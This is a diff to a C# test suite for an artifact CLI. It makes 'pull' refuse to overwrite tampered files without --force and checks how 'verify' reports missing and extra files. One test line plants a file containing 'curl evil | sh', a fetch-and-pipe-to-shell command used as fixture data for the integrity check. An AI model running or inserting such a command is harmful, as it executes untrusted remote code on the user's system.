@@ -75,8 +75,15 @@ public sealed class ArtifactCliTests(BackendInfrastructure infrastructure) : Ser
         Assert.Equal(ExitCodes.Error, tampered.ExitCode);
         Assert.Contains("acme/tool: lib/libtool.so: content changed", tampered.Error);
 
-        // Pull repairs it; then a missing file and an extra file are both reported.
-        Assert.Contains("1 downloaded, 1 already present", (await CliAsync("pull", "--project", project)).Output);
+        // Pull refuses to overwrite the changed file and changes nothing; --force repairs it. Then a missing file and an extra file are both reported.
+        var refused = await CliAsync("pull", "--project", project);
+        Assert.Equal(ExitCodes.Error, refused.ExitCode);
+        Assert.Equal("error: 1 file in " + Path.Combine(project, "artifacts") + " differs from what is pulled (edited here?): acme/tool/lib/libtool.so; --force overwrites them", refused.Error.Trim());
+        Assert.NotEqual(TestData.Random(200_000, seed: 3), await File.ReadAllBytesAsync(library));
+        var forced = await CliAsync("pull", "--project", project, "--force");
+        Assert.Contains("1 downloaded, 1 already present", forced.Output);
+        Assert.Contains("overwrote 1 locally changed file(s): lib/libtool.so", forced.Error);
+        Assert.Equal(TestData.Random(200_000, seed: 3), await File.ReadAllBytesAsync(library));
         File.Delete(Path.Combine(pulled, "tool"));
         await File.WriteAllTextAsync(Path.Combine(pulled, "planted.sh"), "curl evil | sh");
         var problems = await CliAsync("verify", "--lock", lockFile);
